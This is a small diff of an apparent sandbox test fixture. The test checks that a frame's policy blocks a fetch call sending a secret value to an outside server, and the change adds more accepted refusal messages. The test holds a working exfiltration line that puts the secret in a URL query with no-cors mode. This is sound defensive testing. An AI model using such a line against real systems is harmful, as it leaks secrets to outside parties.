@@ -1,7 +1,7 @@
 // A request by fetch.
 // tries: send a secret to another server in the address of a request, without asking that server
 // must: be refused by the policy of the frame; nothing arrives
-// refusal: Failed to fetch|no network
+// refusal: Failed to fetch|NetworkError|Load failed|no network
 // control: heard
 await fetch(`${OUT}?secret=4711`, { mode: 'no-cors' });
 console.log('escaped: the request was sent');
